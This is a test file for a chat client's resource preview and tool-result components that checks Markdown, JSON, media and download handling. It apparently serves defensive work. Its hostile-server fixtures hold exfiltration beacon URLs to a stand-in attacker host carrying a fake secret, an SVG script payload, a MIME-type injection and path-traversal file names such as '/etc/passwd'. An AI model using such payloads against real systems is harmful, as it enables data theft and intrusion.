// @vitest-environment happy-dom
import { cleanup, waitFor, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ToolResult } from '../../../../components/chat/ToolResult';
import { REVOKE_DELAY_MS } from '../../../../components/resources/download';
import {
  ResourcePreview,
  type ResourceContent,
} from '../../../../components/resources/ResourcePreview';
import {
  MAX_INLINE_BYTES,
  base64DecodedSize,
  classifyMime,
  cleanBase64,
  collapseText,
  countLines,
  filenameFromUri,
  formatBytes,
  mediaDataUrl,
  mimeEssence,
} from '../../../../components/resources/resource-content';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
  vi.useRealTimers();
});

/** A 1x1 PNG. */
const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

function preview(...contents: ResourceContent[]) {
  return render(<ResourcePreview contents={contents} />);
}

describe('resource previews', () => {
  it('renders Markdown through the chat Markdown, images as links', async () => {
    const { container } = preview({
      uri: 'docs://guide.md',
      mimeType: 'text/markdown',
      text: '# Guide\n\nSee ![diagram](https://attacker.example/d.png?leak=1).',
    });
    // The renderer loads as its own chunk; the text shows as it is until then.
    await waitFor(
      () => expect(container.querySelector('.markdown h1')?.textContent).toBe('Guide'),
      { timeout: 4_000 },
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a.image-link')?.textContent).toBe(
      '[diagram] (attacker.example)',
    );
    expect(container.querySelector('.resource-header')?.textContent).toBe(
      'docs://guide.mdtext/markdown',
    );
  });

  it('shows JSON as a readable structure, and as text when it does not parse', () => {
    const { container } = preview(
      {
        uri: 'data://people.json',
        mimeType: 'application/json',
        text: JSON.stringify([{ name: 'Ada' }, { name: 'Grace' }]),
      },
      { uri: 'data://schema', mimeType: 'application/schema+json', text: '{"type": "object"' },
    );
    expect([...container.querySelectorAll('td')].map((cell) => cell.textContent)).toEqual([
      'Ada',
      'Grace',
    ]);
    expect(container.querySelectorAll('pre')).toHaveLength(1);
    expect(container.querySelector('pre')?.textContent).toBe('{"type": "object"');
  });

  it('shows other text as preformatted text, collapsed when long', () => {
    const lines = Array.from({ length: 100 }, (_, index) => `row ${index + 1}`).join('\n');
    const { container } = preview(
      { uri: 'file:///logs/today.log', mimeType: 'text/plain', text: lines },
      { uri: 'file:///page.html', mimeType: 'text/html', text: '<b>bold</b>' },
    );
    const [log, page] = [...container.querySelectorAll('pre')];
    expect(log?.textContent?.split('\n')).toHaveLength(40);
    expect(screen.getByRole('button', { name: 'Show all 100 lines' })).toBeTruthy();
    expect(page?.textContent).toBe('<b>bold</b>');
    expect(container.querySelector('b')).toBeNull();
  });

  it('shows an image blob from a data URL', () => {
    preview({ uri: 'images://pixel.png', mimeType: 'image/png', blob: PIXEL });
    expect(
      screen.getByRole('img', { name: 'Image pixel.png from the resource' }).getAttribute('src'),
    ).toBe(`data:image/png;base64,${PIXEL}`);
  });

  it('shows SVG only as a base64 data URL in an image', () => {
    const svg = btoa('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const { container } = preview({
      uri: 'images://logo.svg',
      mimeType: 'image/svg+xml',
      blob: svg,
    });
    expect(container.querySelector('svg, script')).toBeNull();
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      `data:image/svg+xml;base64,${svg}`,
    );
  });

  it('plays an audio blob', () => {
    const { container } = preview({
      uri: 'sounds://ding',
      mimeType: 'audio/ogg',
      blob: 'T2dnUw==',
    });
    expect(container.querySelector('audio')?.getAttribute('src')).toBe(
      'data:audio/ogg;base64,T2dnUw==',
    );
  });

  it('downloads other blobs through an object URL it revokes afterwards', async () => {
    vi.useFakeTimers();
    let saved: Blob | undefined;
    const create = vi.fn((blob: Blob) => {
      saved = blob;
      return 'blob:chrome-extension://patchbay/1';
    });
    const revoke = vi.fn();
    Object.assign(URL, { createObjectURL: create, revokeObjectURL: revoke });
    const anchors: HTMLAnchorElement[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      anchors.push(this);
    });

    preview({
      uri: 'files://reports/..%2F..%2Fq3%3A%22final%22.pdf?version=2',
      mimeType: 'application/pdf',
      blob: btoa('%PDF-1.7 report'),
    });
    fireEvent.click(screen.getByRole('button', { name: 'Download q3_final_.pdf (15 bytes)' }));

    expect(create).toHaveBeenCalledTimes(1);
    expect(saved?.type).toBe('application/pdf');
    expect(await saved?.text()).toBe('%PDF-1.7 report');
    expect(anchors).toHaveLength(1);
    expect(anchors[0]?.getAttribute('download')).toBe('q3_final_.pdf');
    expect(anchors[0]?.getAttribute('href')).toBe('blob:chrome-extension://patchbay/1');
    expect(anchors[0]?.isConnected).toBe(false);
    expect(revoke).not.toHaveBeenCalled();
    vi.advanceTimersByTime(REVOKE_DELAY_MS);
    expect(revoke).toHaveBeenCalledWith('blob:chrome-extension://patchbay/1');
  });

  it('offers a download instead of showing an image over 8 MB', () => {
    const { container } = preview({
      uri: 'images://huge.png',
      mimeType: 'image/png',
      blob: 'A'.repeat(12 * 1024 * 1024),
    });
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('larger than 8 MB');
    expect(screen.getByRole('button', { name: 'Download huge.png (9 MB)' })).toBeTruthy();
  });
});

describe('a hostile server', () => {
  const hostile = 'https://attacker.example/beacon.png?secret=sk-123';
  const fixtures: ResourceContent[] = [
    { uri: hostile, mimeType: 'image/png', blob: hostile },
    { uri: hostile, mimeType: 'audio/mpeg', blob: 'http://attacker.example/a.mp3' },
    { uri: hostile, mimeType: 'text/markdown', text: `![x](${hostile}) <img src="${hostile}">` },
    { uri: hostile, mimeType: 'text/html', text: `<img src="${hostile}"><audio src="${hostile}">` },
    { uri: hostile, mimeType: 'application/json', text: JSON.stringify({ src: hostile }) },
    { uri: hostile, mimeType: 'image/svg+xml', text: `<svg><image href="${hostile}"/></svg>` },
    { uri: hostile, mimeType: `image/png;base64,${PIXEL}"`, blob: hostile },
    { uri: hostile, mimeType: 'application/octet-stream', blob: hostile },
    { uri: hostile, blob: PIXEL },
  ];

  function expectNothingLoads(container: HTMLElement) {
    // It shows something (a preview that rendered nothing would load nothing either).
    expect(container.textContent?.trim()).not.toBe('');
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of ['src', 'srcset', 'poster', 'data']) {
        expect(element.getAttribute(attribute) ?? '').not.toMatch(/^\s*https?:/i);
      }
    }
    expect(container.querySelector('svg, image, script, iframe, object, embed, video')).toBeNull();
  }

  it.each(fixtures.map((fixture, index) => [index, fixture] as const))(
    'loads nothing from the network in a preview (fixture %i)',
    (_index, fixture) => {
      const { container } = preview(fixture);
      expectNothingLoads(container);
    },
  );

  it('loads nothing from the network in a tool result either', () => {
    const { container } = render(
      <ToolResult
        serverId="evil"
        onOpenResource={vi.fn()}
        result={{
          content: [
            { type: 'image', data: hostile, mimeType: 'image/png' },
            { type: 'image', data: PIXEL, mimeType: 'text/html' },
            { type: 'audio', data: hostile, mimeType: 'audio/mpeg' },
            { type: 'resource_link', uri: hostile, name: 'beacon', mimeType: 'image/png' },
            ...fixtures.map((resource) => ({ type: 'resource', resource })),
          ],
          structuredContent: { image: hostile, rows: [{ src: hostile }] },
        }}
      />,
    );
    fireEvent.click(screen.getByRole('button', { name: /^Show \d+ more items$/ }));
    expectNothingLoads(container);
    expect(container.querySelector(`a[href="${hostile}"]:not(.image-link)`)).toBeNull();
  });
});

describe('resource content helpers', () => {
  it.each<[unknown, string | undefined]>([
    ['aGVs\nbG8=', 'aGVsbG8='],
    ['aGVsbG8', 'aGVsbG8'],
    ['https://attacker.example/x.png', undefined],
    ['aGVsb', undefined],
    ['aGVs=bG8=', undefined],
    [42, undefined],
  ])('accepts base64 and rejects URLs and other text: %j → %s', (text, clean) => {
    expect(cleanBase64(text)).toBe(clean);
  });

  it.each([
    [btoa('a'), 1],
    [btoa('ab'), 2],
    [btoa('abc'), 3],
    ['aGVsbG8', 5],
    ['', 0],
  ])('estimates decoded sizes without decoding: %j is %i bytes', (base64, size) => {
    expect(base64DecodedSize(base64)).toBe(size);
  });

  it.each<[string | undefined, string]>([
    ['text/markdown; charset=utf-8', 'markdown'],
    ['application/json', 'json'],
    ['application/ld+json', 'json'],
    ['text/csv', 'text'],
    ['IMAGE/PNG', 'image'],
    ['audio/ogg', 'audio'],
    ['application/pdf', 'other'],
    ['text/html"><script>', 'other'],
    [undefined, 'other'],
  ])('classifies the MIME type %s as %s', (mime, kind) => {
    expect(classifyMime(mime)).toBe(kind);
  });

  it('takes the essence of a MIME type', () => {
    expect(mimeEssence(' Image/PNG ; q=1')).toBe('image/png');
  });

  it('builds data URLs only for allowed types, real base64 and sizes it can decode', () => {
    expect(mediaDataUrl('image', 'image/webp', 'UklGRg==')).toEqual({
      url: 'data:image/webp;base64,UklGRg==',
    });
    expect(mediaDataUrl('image', 'image/png; charset=x', PIXEL)).toEqual({
      url: `data:image/png;base64,${PIXEL}`,
    });
    expect(mediaDataUrl('image', 'image/tiff', PIXEL)).toEqual({ refused: 'type' });
    expect(mediaDataUrl('image', 'text/html', PIXEL)).toEqual({ refused: 'type' });
    expect(mediaDataUrl('audio', 'image/png', PIXEL)).toEqual({ refused: 'type' });
    expect(mediaDataUrl('image', 'image/png', 'https://a.example/x.png')).toEqual({
      refused: 'data',
    });
    expect(mediaDataUrl('image', 'image/png', '')).toEqual({ refused: 'data' });
    const limit = 'A'.repeat(Math.floor(MAX_INLINE_BYTES / 3) * 4);
    expect(mediaDataUrl('audio', 'audio/wav', limit)).toHaveProperty('url');
    expect(mediaDataUrl('audio', 'audio/wav', `${limit}AAAA`)).toEqual({ refused: 'size' });
  });

  it.each<[string, string | undefined, string]>([
    ['https://example.com/a/report.pdf?x=1#top', undefined, 'report.pdf'],
    ['file:///home/me/My%20Notes.txt', undefined, 'My Notes.txt'],
    ['files://x/..%2F..%2Fetc%2Fpasswd', undefined, 'passwd'],
    ['files://x/..%5C..%5Cboot.ini', undefined, 'boot.ini'],
    ['files://x/%2E%2E', undefined, 'resource'],
    ['memo:1234', 'text/plain', '1234.txt'],
    ['https://example.com/', 'image/png', 'example.com'],
    ['', 'application/zip', 'resource.zip'],
    ['db://rows/%E0%A4%A', undefined, '%E0%A4%A'],
    ['x://y/\u0000evil<>.exe', undefined, '_evil_.exe'],
  ])('saves %j (type %s) as %j, after the last segment of its URI', (uri, mime, filename) => {
    expect(filenameFromUri(uri, mime)).toBe(filename);
  });

  it.each([
    [1, '1 byte'],
    [512, '512 bytes'],
    [1536, '1.5 KB'],
    [12_288, '12 KB'],
    [3.2 * 1024 * 1024, '3.2 MB'],
    [2_000 * 1024 * 1024 * 1024, '2 TB'],
    [Number.NaN, 'unknown size'],
  ])('formats a size of %d as %s', (bytes, text) => {
    expect(formatBytes(bytes)).toBe(text);
  });

  it('counts lines and collapses long text', () => {
    expect(countLines('')).toBe(0);
    expect(countLines('one')).toBe(1);
    expect(countLines('one\n')).toBe(1);
    expect(countLines('one\n\nthree')).toBe(3);
    expect(collapseText('short')).toEqual({ preview: 'short', collapsed: false, expandLabel: '' });
    const long = collapseText(Array.from({ length: 41 }, (_, index) => index).join('\n'));
    expect(long.preview.split('\n')).toHaveLength(40);
    expect(long.expandLabel).toBe('Show all 41 lines');
  });
});
